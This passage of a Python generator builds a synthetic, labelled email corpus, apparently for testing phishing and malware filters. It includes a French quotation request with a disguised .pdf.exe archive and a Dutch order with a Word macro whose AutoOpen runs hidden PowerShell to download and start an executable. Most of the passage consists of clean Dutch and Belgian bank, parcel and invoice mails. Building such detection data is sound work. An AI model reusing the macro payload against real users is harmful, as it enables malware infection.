    gz = files.gzip_bytes("Demande_de_prix_2025-0412.pdf.exe", files.pe_stub())
    kw, hops, sig = gmail_out(seed, when, sender, rcpt)
    plain = ("Bonjour,\n\nNous souhaitons recevoir votre meilleure offre de prix pour les articles de la liste jointe\n"
             "(portes intérieures en chêne, 24 unités) livrables à Esch-sur-Alzette.\n\n"
             "Merci de nous faire parvenir votre devis avant le 15/04/2025.\n\nCordialement,\n\nJean-Marc Lefort\n"
             "Service Achats\n")
    raw = message(mailbox(seed=seed, when=when, provider="postlu", rcpt=rcpt, hop=Hop(**kw), hops=hops, sig=sig,
                          core=gmail_core(seed, when, addr("Service Achats", sender), rcpt, "Demande de prix / RFQ 2025-0412")),
                  gmail_body(seed, plain, attachments=[attachment("application/gzip", "Demande_de_prix_2025-0412.gz", gz)]))
    add("malware", "phish", "demande-de-prix-gz-exe", "Request-for-quotation in French to a Luxembourg joinery from a "
        "Gmail 'service achats' with a .gz archive hiding 'Demande_de_prix_2025-0412.pdf.exe'.", raw)


@msg
def m_bestelbon_docm():
    seed, when = "bestelbon-docm", T(2024, 6, 11, 15, 36, 20)
    tenant = "bakkerijdekroon.nl"
    rcpt = f"inkoop@{tenant}"
    dom = "horeca-groothandel-benelux.com"
    sender = f"orders@{dom}"
    macro = ('Sub AutoOpen()\n    Dim s As String\n    s = "powershell -nop -w hidden -c ""$u=\'https://files.horeca-docs.net/'
             f'b/{alnum(seed + "p", 8)}\';$o=$env:APPDATA+\'\\wupd.exe\';(New-Object Net.WebClient).DownloadFile($u,$o);'
             'Start-Process $o"""\n    CreateObject("WScript.Shell").Run s, 0, False\nEnd Sub\n\n'
             "Sub Document_Open()\n    AutoOpen\nEnd Sub\n")
    doc = files.docx(["BESTELBON PO-2024-0611", "", "Dit document is beveiligd.",
                      "Klik op 'Bewerken inschakelen' en daarna op 'Inhoud inschakelen' om de bestelling te bekijken."],
                     title="Bestelbon", author="Admin", macro=macro)
    hop = Hop(ip="146.19.191.57", helo=f"srv.{dom}", mailfrom=sender, spf="pass", dkim_res="pass", dkim_d=dom,
              dkim_s="default", dmarc="pass", hfrom=dom, policy="none")
    plain = ("Goedemiddag,\n\nBijgaand onze bestelbon PO-2024-0611 voor levering in week 25. Graag bevestiging van\n"
             "prijzen en levertijd.\n\nMet vriendelijke groet,\nInkoop Horeca Groothandel Benelux\n")
    body = Multi("mixed", boundary(seed + "mx"), [text(plain), attachment(
        "application/vnd.ms-word.document.macroEnabled.12", "Bestelbon_PO-2024-0611.docm", doc)])
    raw = message(mailbox(
        seed=seed, when=when, provider="m365:" + tenant, rcpt=rcpt, hop=hop, sig=dkim(dom, "default", seed),
        core=[f"From: {addr('Horeca Groothandel Benelux', sender)}", f"To: {rcpt}",
              f"Subject: {enc('Bestelbon PO-2024-0611')}", f"Date: {rfc(when)}", f"Message-ID: {mid(seed, dom, 'uuid')}",
              "X-Mailer: Microsoft Outlook 16.0"]),
        body)
    add("malware", "phish", "bestelbon-docm-macro", "Purchase order to a bakery from a new 'horeca groothandel' domain "
        "with a macro-enabled Word document whose AutoOpen runs a hidden PowerShell download-and-execute.", raw)


# ---------------------------------------------------------------------------
# legitimate: transactional and person-to-person (clean)
# ---------------------------------------------------------------------------

def sfmc(seed: str, click_host: str, n: int = 1) -> str:
    """A Salesforce Marketing Cloud tracked link."""
    return f"https://{click_host}/?qs={hx(seed + 'qs' + str(n), 96)}"


@msg
def l_ing_bericht():
    seed, when = "ing-bericht-echt", T(2025, 3, 18, 14, 2, 7)
    rcpt = "m.vandijk@kpnmail.nl"
    hop = Hop(ip="145.221.248.32", helo="mailout2.ing.nl", mailfrom="noreply@ing.nl", dkim_res="pass", dkim_d="ing.nl",
              dkim_s="s2048", dmarc="pass", hfrom="ing.nl", policy="reject")
    url = "https://mijn.ing.nl/berichten"
    plain = ("Beste heer Van Dijk,\n\nEr staat een nieuw bericht voor u klaar in Mijn ING.\n\n"
             "Onderwerp: Wijziging tarieven betalen per 1 mei 2025\n\n"
             "U leest het bericht door in te loggen in de ING App of in Mijn ING via ing.nl. In deze e-mail staan\n"
             "bewust geen links naar inlogpagina's.\n\nMet vriendelijke groet,\n\nING\n\n"
             "Dit is een automatisch verstuurd bericht. U kunt niet reageren op deze e-mail.\n")
    html = html_doc(card(
        "<p>Beste heer Van Dijk,</p><p>Er staat een nieuw bericht voor u klaar in Mijn ING.</p>"
        "<p><b>Onderwerp:</b> Wijziging tarieven betalen per 1 mei 2025</p>"
        "<p>U leest het bericht door in te loggen in de ING App of in Mijn ING via ing.nl. In deze e-mail staan bewust geen "
        "links naar inlogpagina&#39;s.</p><p>Met vriendelijke groet,<br><br>ING</p>",
        header='<img src="https://www.ing.nl/static/email/ing-logo.png" width="96" alt="ING">',
        footer="Dit is een automatisch verstuurd bericht. U kunt niet reageren op deze e-mail.<br>"
               "ING Bank N.V., Bijlmerdreef 106, 1102 CT Amsterdam. Meer weten over veilig bankieren? "
               "<a href=\"https://www.ing.nl/particulier/veilig-bankieren\" style=\"color:#888;\">ing.nl/veilig</a>"), "ING")
    raw = message(mailbox(
        seed=seed, when=when, provider="kpn", rcpt=rcpt, hop=hop, sig=dkim("ing.nl", "s2048", seed, t=when),
        core=[f"From: {addr('ING', 'noreply@ing.nl')}", f"To: {rcpt}", f"Subject: {enc('U heeft een nieuw bericht in Mijn ING')}",
              f"Date: {rfc(when)}", f"Message-ID: <{guid(seed)}@ing.nl>"]),
        alt(seed, plain, html))
    add("clean", "legit", "ing-nieuw-bericht", "Genuine ING notification from ing.nl (SPF/DKIM/DMARC pass) that a message "
        "about new tariffs is waiting in Mijn ING; it deliberately contains no login link.", raw)


@msg
def l_mijnoverheid_echt():
    seed, when = "mijnoverheid-echt", T(2025, 2, 27, 9, 15, 2)
    rcpt = "wim.dekker.1956@gmail.com"
    hop = Hop(ip="147.181.98.40", helo="mail-out3.mijnoverheid.nl", mailfrom="noreply@mijnoverheid.nl", dkim_res="pass",
              dkim_d="mijnoverheid.nl", dkim_s="mo2023", dmarc="pass", hfrom="mijnoverheid.nl", policy="reject")
    plain = ("Geachte heer/mevrouw,\n\nU heeft een nieuw bericht ontvangen in uw Berichtenbox op MijnOverheid.nl.\n\n"
             "Afzender: Belastingdienst\n\nGa naar MijnOverheid.nl en log in met DigiD om het bericht te lezen.\n\n"
             "Met vriendelijke groet,\n\nMijnOverheid\n\nDeze e-mail is automatisch verstuurd. U kunt hier niet op reageren.\n"
             "Heeft u vragen? Kijk op mijnoverheid.nl/vragen.\n")
    html = ("<html><body style=\"font-family:Verdana,sans-serif;font-size:13px;color:#000;\">"
            "<p>Geachte heer/mevrouw,</p><p>U heeft een nieuw bericht ontvangen in uw Berichtenbox op MijnOverheid.nl.</p>"
            "<p>Afzender: Belastingdienst</p><p>Ga naar MijnOverheid.nl en log in met DigiD om het bericht te lezen.</p>"
            "<p>Met vriendelijke groet,</p><p>MijnOverheid</p><p style=\"color:#666;font-size:11px;\">Deze e-mail is automatisch "
            "verstuurd. U kunt hier niet op reageren.<br>Heeft u vragen? Kijk op mijnoverheid.nl/vragen.</p></body></html>")
    raw = message(mailbox(
        seed=seed, when=when, provider="gmail", rcpt=rcpt, hop=hop, sig=dkim("mijnoverheid.nl", "mo2023", seed, t=when),
        core=[f"Date: {rfc(when)}", f"From: {addr('MijnOverheid', 'noreply@mijnoverheid.nl')}", f"To: {rcpt}",
              f"Message-ID: <{digits(seed, 13)}.{digits(seed + 'b', 5)}.{digits(seed + 'c', 13)}@mijnoverheid.nl>",
              f"Subject: {enc('Nieuw bericht in uw Berichtenbox')}"]),
        alt(seed, plain, html))
    add("clean", "legit", "mijnoverheid-berichtenbox", "Genuine MijnOverheid Berichtenbox notification from "
        "mijnoverheid.nl (passes DMARC), plain text style, no links, telling the user to log in with DigiD.", raw)


@msg
def l_postnl_track():
    seed, when = "postnl-echt", T(2025, 11, 27, 7, 48, 33)
    rcpt = "familie.smit@ziggo.nl"
    code = "3SCOOL" + digits(seed, 9)
    mf = f"bounce-{digits(seed + 'b', 2)}_HTML-{digits(seed + 'b1', 9)}-{digits(seed + 'b2', 7)}-{digits(seed + 'b3', 6)}-{digits(seed + 'b4', 3)}@bounce.notificatie.postnl.nl"
    hop = Hop(ip="136.147.141.27", helo="mta3.notificatie.postnl.nl", mailfrom=mf, dkim_res="pass",
              dkim_d="notificatie.postnl.nl", dkim_s="200608", dmarc="pass", hfrom="notificatie.postnl.nl", policy="reject")
    t1, t2 = sfmc(seed, "click.notificatie.postnl.nl", 1), sfmc(seed, "click.notificatie.postnl.nl", 2)
    plain = (f"Je pakket van Coolblue komt vandaag\n\nBezorgmoment: tussen 13:15 en 15:15\nTrack & Trace: {code}\n\n"
             f"Volg je pakket: {t1}\n\nNiet thuis? Je kunt je pakket ook bij de buren laten bezorgen: {t2}\n\nGroet,\nPostNL\n")
    html = html_doc(card(
        "<p style=\"font-size:22px;font-weight:bold;color:#001e82;\">Je pakket van Coolblue komt vandaag</p>"
        f"<p>Bezorgmoment: <b>tussen 13:15 en 15:15</b><br>Track &amp; Trace: {code}</p>"
        + button(t1, "Volg je pakket", "#ff6200") +
        f"<p>Niet thuis? <a href=\"{t2}\">Laat je pakket bij de buren bezorgen</a>.</p><p>Groet,<br>PostNL</p>",
        header='<img src="https://image.notificatie.postnl.nl/lib/fe9a1372756d0c7b71/m/1/postnl-logo.png" width="70" alt="PostNL">',
        footer="Je ontvangt deze e-mail omdat er een pakket naar je onderweg is. PostNL, Prinses Beatrixlaan 23, 2595 AK "
               f"Den Haag.<img src=\"https://click.notificatie.postnl.nl/open.aspx?ffcb10-{hx(seed + 'op', 40)}\" width=\"1\" height=\"1\">"),
        "PostNL")
    raw = message(mailbox(
        seed=seed, when=when, provider="ziggo", rcpt=rcpt, hop=hop,
        sig=dkim("notificatie.postnl.nl", "200608", seed, signed="From:To:Subject:Date:MIME-Version:Content-Type:Message-ID"),
        core=[f"From: {addr('PostNL', 'noreply@notificatie.postnl.nl')}", f"To: {rcpt}",
              f"Subject: {enc('Je pakket van Coolblue komt vandaag tussen 13:15 en 15:15')}", f"Date: {rfc(when)}",
              f"x-job: {digits(seed + 'j', 7)}_{digits(seed + 'j2', 6)}", f"Message-ID: <{guid(seed)}@xtnvmta3.notificatie.postnl.nl>",
              "X-SFMC-Stack: 50"]),
        alt(seed, plain, html))
    add("clean", "legit", "postnl-bezorgmoment", "Genuine PostNL delivery-window notification sent through Salesforce "
        "Marketing Cloud on notificatie.postnl.nl (DMARC pass), with tracked links on the same domain.", raw)


@msg
def l_bpost_colis_fr():
    seed, when = "bpost-echt", T(2025, 1, 22, 8, 10, 51)
    rcpt = "c.dubois@skynet.be"
    item = "3232" + digits(seed, 20)
    hop = Hop(ip="193.53.229.145", helo="smtp-out2.bpost.be", mailfrom="no-reply@bpost.be", dkim_res="pass",
              dkim_d="bpost.be", dkim_s="selector2", dmarc="pass", hfrom="bpost.be", policy="reject")
    link = f"https://track.bpost.cloud/btr/web/#/search?itemCode={item}&lang=fr&postalCode=1348"
    plain = (f"Bonjour,\n\nVotre colis de Zalando sera livré aujourd'hui entre 11h30 et 13h30.\n\nNuméro d'envoi : {item}\n\n"
             f"Suivre votre envoi : {link}\n\nVous ne serez pas là ? Vous pouvez modifier la livraison via le lien ci-dessus.\n\n"
             "bpost\n")
    html = html_doc(card(
        "<p>Bonjour,</p><p>Votre colis de <b>Zalando</b> sera livr&eacute; aujourd&#39;hui entre <b>11h30 et 13h30</b>.</p>"
        f"<p>Num&eacute;ro d&#39;envoi : {item}</p>" + button(link, "Suivre votre envoi", "#ef2637") +
        "<p>Vous ne serez pas l&agrave; ? Vous pouvez modifier la livraison via le suivi.</p><p>bpost</p>",
        header='<img src="https://www.bpost.be/sites/all/themes/bpost/logo.png" width="90" alt="bpost">',
        footer="bpost SA de droit public, Centre Monnaie, 1000 Bruxelles. Ceci est un message automatique."), "bpost", "fr")
    raw = message(mailbox(
        seed=seed, when=when, provider="proximus", rcpt=rcpt, hop=hop, sig=dkim("bpost.be", "selector2", seed),
        core=[f"From: {addr('bpost', 'no-reply@bpost.be')}", f"To: {rcpt}",
              f"Subject: {enc('Votre colis sera livré aujourd’hui')}", f"Date: {rfc(when)}",
              f"Message-ID: <{guid(seed)}@bpost.be>"]),
        alt(seed, plain, html))
    add("clean", "legit", "bpost-livraison-aujourdhui", "Genuine bpost delivery notice in French from bpost.be with a "
        "track.bpost.cloud tracking link (DMARC pass).", raw)


@msg
def l_coolblue_bestelling():
    seed, when = "coolblue-order", T(2025, 11, 25, 21, 4, 18)
    rcpt = "d.visser@live.nl"
    order = digits(seed, 8)
    hop = Hop(ip="185.6.80.44", helo="mail2.coolblue.nl", mailfrom="bounces@mail.coolblue.nl", dkim_res="pass",
              dkim_d="coolblue.nl", dkim_s="cb1", dmarc="pass", hfrom="coolblue.nl", policy="reject")
    url = f"https://www.coolblue.nl/mijn-coolblue/bestellingen/{order}"
    plain = (f"Hoi Daan,\n\nBedankt voor je bestelling! Hieronder vind je een overzicht.\n\nBestelnummer: {order}\n\n"
             "1x Philips Airfryer XXL HD9285/93 € 229,00\nBezorging: donderdag 27 november, gratis\n\nTotaal: € 229,00 "
             "(betaald met iDEAL)\n\n"
             f"Je bestelling bekijken: {url}\n\nAlles voor een glimlach,\nCoolblue\n")
    html = html_doc(card(
        "<p style=\"font-size:22px;font-weight:bold;\">Bedankt voor je bestelling!</p><p>Hoi Daan,</p>"
        f"<p>Bestelnummer: <b>{order}</b></p><table width=\"100%\" style=\"font-family:Arial;font-size:14px;\">"
        "<tr><td>1x Philips Airfryer XXL HD9285/93</td><td align=\"right\">&euro;&nbsp;229,00</td></tr>"
        "<tr><td>Bezorging donderdag 27 november</td><td align=\"right\">Gratis</td></tr>"
        "<tr><td><b>Totaal (betaald met iDEAL)</b></td><td align=\"right\"><b>&euro;&nbsp;229,00</b></td></tr></table><br>"
        + button(url, "Bekijk je bestelling", "#0090e3") + "<p>Alles voor een glimlach,<br>Coolblue</p>",
        header='<img src="https://image.coolblue.nl/mail/coolblue-logo.png" width="120" alt="Coolblue">',
        footer="Coolblue B.V., Weena 664, 3012 CN Rotterdam. KvK 24303003."), "Coolblue")
    raw = message(mailbox(
        seed=seed, when=when, provider="outlook", rcpt=rcpt, hop=hop, sig=dkim("coolblue.nl", "cb1", seed),
        core=[f"From: {addr('Coolblue', 'klantenservice@coolblue.nl')}", f"To: {addr('Daan Visser', rcpt)}",
              f"Subject: {enc('Bedankt voor je bestelling ' + order)}", f"Date: {rfc(when)}",
              f"Message-ID: <{guid(seed)}@coolblue.nl>"]),
        alt(seed, plain, html))
    add("clean", "legit", "coolblue-orderbevestiging", "Genuine Coolblue order confirmation for an airfryer, from "
        "coolblue.nl (DMARC pass) with a link to the order in Mijn Coolblue.", raw)


@msg
def l_eneco_jaarnota():
    seed, when = "eneco-echt", T(2025, 2, 12, 6, 31, 9)
    rcpt = "j.willems@hetnet.nl"
    mf = f"bounce-{digits(seed + 'b', 2)}_HTML-{digits(seed + 'b1', 9)}-{digits(seed + 'b2', 7)}-{digits(seed + 'b3', 6)}-0@bounce.mail.eneco.nl"
    hop = Hop(ip="13.111.33.14", helo="mta.mail.eneco.nl", mailfrom=mf, dkim_res="pass", dkim_d="mail.eneco.nl",
              dkim_s="200608", dmarc="pass", hfrom="eneco.nl", policy="reject")
    t1 = sfmc(seed, "click.mail.eneco.nl", 1)
    plain = ("Beste heer Willems,\n\nUw jaarnota over 2024 staat voor u klaar in Mijn Eneco. U ontvangt € 142,61 terug;\n"
             "dit bedrag storten wij binnen 10 werkdagen op uw rekening eindigend op 4417. U hoeft hiervoor niets te doen.\n\n"
             f"Bekijk uw jaarnota: {t1}\n\nUw nieuwe maandbedrag wordt vanaf maart € 128,00.\n\nMet energieke groet,\nEneco\n")
    html = html_doc(card(
        "<p>Beste heer Willems,</p><p>Uw jaarnota over 2024 staat voor u klaar in Mijn Eneco. U ontvangt "
        "<b>&euro;&nbsp;142,61</b> terug; dit bedrag storten wij binnen 10 werkdagen op uw rekening eindigend op 4417. "
        "U hoeft hiervoor niets te doen.</p>" + button(t1, "Bekijk uw jaarnota", "#e5004c") +
        "<p>Uw nieuwe maandbedrag wordt vanaf maart &euro;&nbsp;128,00.</p><p>Met energieke groet,<br>Eneco</p>",
        header='<img src="https://image.mail.eneco.nl/lib/fe3611/m/1/eneco-logo.png" width="110" alt="Eneco">',
        footer="Eneco Consumenten B.V., Postbus 1014, 3000 BA Rotterdam. KvK 24490697. "
               f"<img src=\"https://click.mail.eneco.nl/open.aspx?ffcb10-{hx(seed + 'op', 40)}\" width=\"1\" height=\"1\">"),
        "Eneco")
    raw = message(mailbox(
        seed=seed, when=when, provider="kpn", rcpt=rcpt, hop=hop,
        sig=headers(dkim("mail.eneco.nl", "200608", seed), dkim("eneco.nl", "sfmc", seed + "b")),
        core=[f"From: {addr('Eneco', 'noreply@eneco.nl')}", f"To: {rcpt}", f"Subject: {enc('Uw jaarnota 2024 staat klaar')}",
              f"Date: {rfc(when)}", f"Message-ID: <{guid(seed)}@xtnvmta.mail.eneco.nl>",
              f"x-job: {digits(seed + 'j', 7)}_{digits(seed + 'j2', 6)}", "X-SFMC-Stack: 50"]),
        alt(seed, plain, html))
    add("clean", "legit", "eneco-jaarnota-teruggave", "Genuine Eneco annual-statement notice (refund paid automatically, "
        "'u hoeft niets te doen') sent via Salesforce Marketing Cloud on mail.eneco.nl, DMARC pass.", raw)


@msg
def l_telenet_factuur():
    seed, when = "telenet-factuur", T(2025, 6, 3, 5, 12, 40)
    rcpt = "an.peeters@telenet.be"
    hop = Hop(ip="195.130.137.88", helo="mailout.telenet.be", mailfrom="noreply@telenet.be", dkim_res="pass",
              dkim_d="telenet.be", dkim_s="r24", dmarc="pass", hfrom="telenet.be", policy="quarantine")
    url = "https://www2.telenet.be/nl/mijn-telenet/facturen/"
    plain = ("Dag An,\n\nJe factuur van juni staat klaar in Mijn Telenet.\n\nBedrag: € 96,40\nUiterste betaaldatum: 18/06/2025\n"
             "Je betaalt via domiciliëring: je hoeft niets te doen.\n\n"
             f"Bekijk je factuur: {url}\n\nGroeten,\nTelenet\n")
    html = html_doc(card(
        "<p>Dag An,</p><p>Je factuur van juni staat klaar in Mijn Telenet.</p><p>Bedrag: <b>&euro;&nbsp;96,40</b><br>"
        "Uiterste betaaldatum: 18/06/2025<br>Je betaalt via domicili&euml;ring: je hoeft niets te doen.</p>"
        + button(url, "Bekijk je factuur", "#ffc421", "#000000") + "<p>Groeten,<br>Telenet</p>",
        header='<img src="https://www2.telenet.be/content/dam/telenet/logo.png" width="100" alt="Telenet">',
        footer="Telenet BV, Liersesteenweg 4, 2800 Mechelen, BTW BE 0473.416.418"), "Telenet")
    raw = message(mailbox(
        seed=seed, when=when, provider="telenet", rcpt=rcpt, hop=hop, sig=dkim("telenet.be", "r24", seed),
        core=[f"From: {addr('Telenet', 'noreply@telenet.be')}", f"To: {rcpt}",
              f"Subject: {enc('Je Telenet-factuur van juni staat klaar')}", f"Date: {rfc(when)}",
              f"Message-ID: <{guid(seed)}@telenet.be>"]),
        alt(seed, plain, html))
    add("clean", "legit", "telenet-factuur-juni", "Genuine Telenet invoice-ready mail from telenet.be, amount paid by "
        "direct debit, link to Mijn Telenet on www2.telenet.be.", raw)


@msg
def l_gemeente_intern():
    seed, when = "gemeente-intern", T(2025, 9, 10, 11, 26, 4)
    tenant = "oostvliet.nl"
    rcpt, sender = f"team.burgerzaken@{tenant}", f"h.dijkstra@{tenant}"
    pr, sub = f"AM{digits(seed, 1)}PR{digits(seed + 'p1', 2)}MB{digits(seed + 'p2', 4)}", "eurprd0" + digits(seed + "e", 1)
    hop = Hop(ip="", helo="", mailfrom=sender, hfrom=tenant)
    share = f"https://oostvliet.sharepoint.com/:x:/s/Burgerzaken/E{alnum(seed + 's', 45)}?e={alnum(seed + 'e', 6)}"
    plain = ("Hoi allemaal,\n\nVoor de verkiezingen van 29 oktober zoeken we nog stembureauleden voor de\n"
             "stembureaus in De Meent en het gemeentehuis. Wie zich wil opgeven kan zich in het rooster zetten:\n\n"
             f"{share}\n\nDe instructieavond is op dinsdag 14 oktober om 19:30 in zaal 2. Graag uiterlijk vrijdag\n"
             "inschrijven, dan kan ik de benoemingen nog meenemen naar het college.\n\nGroet,\n\nHenk Dijkstra\n"
             "Coördinator verkiezingen | Team Burgerzaken\nGemeente Oostvliet\n")
    paras = "\n".join(mso_p(x) for x in [
        "Hoi allemaal,", "",
        "Voor de verkiezingen van 29 oktober zoeken we nog stembureauleden voor de stembureaus in De Meent en het "
        "gemeentehuis. Wie zich wil opgeven kan zich in het rooster zetten:", "",
        f'<a href="{share}">Rooster stembureaus TK2025.xlsx</a>', "",
        "De instructieavond is op dinsdag 14 oktober om 19:30 in zaal 2. Graag uiterlijk vrijdag inschrijven, dan kan ik "
        "de benoemingen nog meenemen naar het college.", "", "Groet,", "", "<b>Henk Dijkstra</b>",
        "Co&ouml;rdinator verkiezingen | Team Burgerzaken", "Gemeente Oostvliet"])
    raw = message(mailbox(seed=seed, when=when, provider="m365:" + tenant, rcpt=rcpt, hop=hop, internal=True,
                          hops=[f"Received: from {pr}.{sub}.prod.outlook.com ([fe80::{hx(seed + 'f', 4)}:{hx(seed + 'g', 4)}:"
                                f"{hx(seed + 'h', 4)}:{hx(seed + 'i', 4)}]) by\n\t{pr}.{sub}.prod.outlook.com ([fe80::"
                                f"{hx(seed + 'f', 4)}:{hx(seed + 'g', 4)}:{hx(seed + 'h', 4)}:{hx(seed + 'i', 4)}%5]) with mapi id "
                                f"15.20.9115.15;\n\t{rfc_utc(when)}"],
                          core=outlook_core(seed, when, addr("Henk Dijkstra", sender), addr("Team Burgerzaken", rcpt),
                                            "Stembureauleden gezocht TK 29 oktober", pr, sub,
                                            extra=["X-MS-Exchange-Organization-AuthMechanism: 04"])),
                  outlook_body(seed, plain, paras))
    add("clean", "legit", "gemeente-intern-stembureaus", "Internal gemeente mail (M365, authenticated internally) from "
        "the election coordinator asking colleagues to sign up as polling-station staff via the tenant's own "
        "SharePoint sheet.", raw)


@msg
def l_school_ouderbrief():
    seed, when = "ouderbrief", T(2024, 9, 6, 15, 40, 22)
    tenant = "dewegwijzer-school.nl"
    sender = f"directie@{tenant}"
    rcpt = "sanne.bakker.91@gmail.com"
    kw, hops, sig, pr, sub = m365_out(seed, when, tenant, sender)
    hop = Hop(**kw, dkim_res="pass", dkim_d=tenant, dkim_s="selector1", dmarc="pass", hfrom=tenant, policy="quarantine")
    brief = files.pdf(["Basisschool De Wegwijzer", "", "Nieuwsbrief september 2024", "",
                       "- Informatieavond groep 1 t/m 8: dinsdag 17 september, 19:00 uur",
                       "- Schoolfotograaf: donderdag 26 september", "- Studiedag (kinderen vrij): vrijdag 4 oktober",
                       "- Vrijwillige ouderbijdrage 2024-2025: EUR 45,- per kind, zie Parro", "",
                       "Met vriendelijke groet,", "Team De Wegwijzer"], title="Nieuwsbrief september 2024")
    plain = ("Beste ouders en verzorgers,\n\nDe eerste schoolweken zitten erop! In de bijlage vindt u de nieuwsbrief van "
             "september\nmet alle data voor de komende weken, zoals de informatieavond op dinsdag 17 september.\n\n"
             "De vrijwillige ouderbijdrage kunt u zoals altijd betalen via het betaalverzoek in Parro.\n\n"
             "Een fijn weekend gewenst,\n\nMarieke Janssen\nDirecteur Basisschool De Wegwijzer\n")
    paras = "\n".join(mso_p(x) for x in plain.strip("\n").split("\n"))
    raw = message(mailbox(seed=seed, when=when, provider="gmail", rcpt=rcpt, hop=hop, hops=hops, sig=sig,
                          core=outlook_core(seed, when, addr("Directie De Wegwijzer", sender), addr("Directie De Wegwijzer", sender),
                                            "Nieuwsbrief september", pr, sub, attach=True)),
                  outlook_body(seed, plain, paras, [attachment("application/pdf", "Nieuwsbrief september 2024.pdf", brief)]))
    add("clean", "legit", "school-ouderbrief-september", "A primary school's September parent letter from the school's "
        "M365 tenant (passes DMARC), sent to parents in BCC with the newsletter PDF; payment is referred to the Parro app.", raw)


@msg
def l_persoonlijk_fotos():
    seed, when = "vakantiefotos", T(2025, 8, 3, 20, 17, 56)
    rcpt, sender = "ria.degroot@ziggo.nl", "sanne.degroot2002@gmail.com"
    kw, hops, sig = gmail_out(seed, when, sender, rcpt)
    plain = ("Hoi mam,\n\nHier zijn de foto's van Texel, de laatste is bij de vuurtoren. Het weer was uiteindelijk\n"
             "toch goed! Zondag kom ik de koelbox terugbrengen, ben je dan thuis?\n\nDikke kus,\nSanne\n")
    atts = [attachment("image/jpeg", f"IMG_{2400 + i}.jpg", files.photo_jpeg(i + 3, (480, 360))) for i in range(3)]
    raw = message(mailbox(seed=seed, when=when, provider="ziggo", rcpt=rcpt, hop=Hop(**kw), hops=hops, sig=sig,
                          core=gmail_core(seed, when, addr("Sanne de Groot", sender), rcpt, "Foto's Texel")),
                  gmail_body(seed, plain, attachments=atts))
    add("clean", "legit", "persoonlijk-fotos-texel", "Personal mail from a daughter's Gmail to her mother's Ziggo address "
        "with three holiday photos (same sender as the 'hoi mam' name, but the real address and a normal message).", raw)


@msg
def l_leverancier_factuur():
    seed, when = "devries-factuur", T(2025, 9, 1, 16, 20, 41)
    tenant = "installatiebedrijf-kok.nl"
    rcpt = f"administratie@{tenant}"
    dom = "technischegroothandel-devries.nl"
    sender = f"debiteuren@{dom}"
    rabo = iban("NL", "RABO", "03" + digits("iban-wijziging" + "ob", 8))
    kw, hops, sig, pr, sub = m365_out(seed, when, dom, sender)
    hop = Hop(**kw, dkim_res="pass", dkim_d=dom, dkim_s="selector1", dmarc="pass", hfrom=dom, policy="quarantine")
    inv = files.pdf(["Technische Groothandel De Vries B.V.", "Industrieweg 14, 3846 BD Harderwijk", "", "FACTUUR 2025-0871",
                     "Factuurdatum: 01-09-2025   Vervaldatum: 01-10-2025", "Klant: Installatiebedrijf Kok", "",
                     "Pakbon 41877 - CV-ketel Intergas Xtreme 36 (2x)       EUR  4.210,00",
                     "Pakbon 41902 - Vloerverwarmingsverdeler 8-groeps (6x)  EUR  5.772,00",
                     "Pakbon 41955 - Koperen buis 15 mm (diverse)           EUR  2.301,03", "",
                     "Subtotaal EUR 12.283,06   BTW 21% EUR 2.579,44   Totaal EUR 14.862,50", "",
                     f"Graag betalen op {iban_spaced(rabo)} o.v.v. factuurnummer."], title="Factuur 2025-0871")
    plain = ("Geachte heer/mevrouw,\n\nIn de bijlage vindt u factuur 2025-0871. Wij verzoeken u het bedrag binnen 30 dagen\n"
             "over te maken onder vermelding van het factuurnummer.\n\nMet vriendelijke groet,\n\nMarloes de Vries\n"
             "Debiteurenadministratie\nTechnische Groothandel De Vries B.V.\nT 0341 - 42 18 90\n")
    paras = "\n".join(mso_p(x) for x in plain.strip("\n").split("\n"))
    raw = message(mailbox(seed=seed, when=when, provider="m365:" + tenant, rcpt=rcpt, hop=hop, hops=hops, sig=sig,
                          core=outlook_core(seed, when, addr("Debiteuren | Technische Groothandel De Vries", sender), rcpt,
                                            "Factuur 2025-0871", pr, sub, attach=True)),
                  outlook_body(seed, plain, paras, [attachment("application/pdf", "Factuur 2025-0871.pdf", inv)]))
    add("clean", "legit", "leverancier-factuur-devries", "The real supplier's invoice 2025-0871 from its own domain and "
        "M365 tenant (DMARC pass) with a PDF that names the usual Rabobank IBAN; the genuine counterpart of the "
        "look-alike IBAN-change fraud.", raw)


@msg
def l_docusign_huurcontract():
    seed, when = "docusign-huur", T(2025, 5, 14, 16, 2, 37)
    rcpt = "lisa.vermeer84@gmail.com"
    env, acct, er = guid(seed + "env"), guid(seed + "acct"), guid(seed + "er")
    sign = f"https://eu.docusign.net/Signing/EmailStart.aspx?a={env}&etti=24&acct={acct}&er={er}"
    hop = Hop(ip="185.81.103.74", helo="mailout-eu.docusign.net", mailfrom="bounces@eumail.docusign.net", dkim_res="pass",
              dkim_d="eumail.docusign.net", dkim_s="mail", dmarc="pass", hfrom="eumail.docusign.net", policy="reject")
    plain = ("Vesteda via Docusign\n\nBeoordeel en onderteken het document: Huurovereenkomst Spoorlaan 41-3 Tilburg\n\n"
             f"DOCUMENT BEOORDELEN: {sign}\n\nVesteda Verhuur\nverhuur@vesteda.com\n\nBeste Lisa, hierbij de "
             "huurovereenkomst voor de woning aan de Spoorlaan ter ondertekening.\nBij vragen kun je me bellen op "
             "088 - 123 45 00.\n\nDeel deze e-mail niet\n")
    html = html_doc(
        '<table width="100%" cellpadding="0" cellspacing="0" style="background:#eaeaea;"><tr><td align="center" style="padding:20px;">'
        '<table width="640" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:Helvetica,Arial,sans-serif;">'
        '<tr><td style="padding:24px;"><img src="https://eu.docusign.net/Signing/Images/email/Email_Logo.png" width="116" '
        'alt="Docusign"></td></tr><tr><td style="background:#1e4ca1;color:#ffffff;padding:28px;text-align:center;font-size:16px;">'
        'Vesteda heeft u een document verzonden om te beoordelen en te ondertekenen.<br><br>'
        f'<a href="{sign}" style="background:#ffc820;color:#333;padding:10px 24px;text-decoration:none;font-weight:bold;'
        'font-size:14px;">DOCUMENT BEOORDELEN</a></td></tr><tr><td style="padding:24px;font-size:15px;color:#333;">'
        '<b>Vesteda Verhuur</b><br><a href="mailto:verhuur@vesteda.com">verhuur@vesteda.com</a><br><br>Beste Lisa, hierbij '
        'de huurovereenkomst voor de woning aan de Spoorlaan ter ondertekening. Bij vragen kun je me bellen op 088 - 123 45 00.'
        '</td></tr><tr><td style="padding:24px;font-size:11px;color:#666;background:#f4f4f4;"><b>Deel deze e-mail niet</b><br>'
        'Deze e-mail bevat een beveiligde link naar Docusign. Deel deze e-mail, link of toegangscode niet met anderen.'
        '</td></tr></table></td></tr></table>', "Docusign")
    raw = message(mailbox(
